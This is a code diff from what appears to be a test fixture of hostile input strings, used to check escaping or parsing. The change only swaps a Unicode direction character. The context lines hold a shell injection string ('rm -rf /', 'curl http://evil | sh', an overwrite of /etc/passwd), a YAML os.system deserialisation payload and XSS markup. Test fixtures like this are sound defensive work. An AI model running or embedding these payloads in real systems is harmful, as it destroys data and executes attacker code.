@@ -17,7 +17,7 @@ HOSTILE = {
     "shell": "ZQXSHELL $(rm -rf /) `whoami` ; echo pwned && curl http://evil | sh > /etc/passwd \\",
     "yaml": "!!python/object/apply:os.system ['echo ZQXYAML']\n- item\nkey: value\n? complex\n&a *a\n---\n...\n"
     "# not a comment\n%YAML 1.1\n@at |pipe >fold",
-    "unicode": "ZQXUNI Ünïcödé — 日本語 😀 \u202eRTL\u202c zero\u200bwidth line\u2028sep para\u2029sep"
+    "unicode": "ZQXUNI Ünïcödé — 日本語 😀 \u200fRTL mark zero\u200bwidth line\u2028sep para\u2029sep"
     " \ufeffbom nbsp\u00a0 \ttab",
     "markup": "ZQXHTML <script>alert(1)</script> [link](javascript:alert(1)) # heading\n---\n| a | b |",
 }
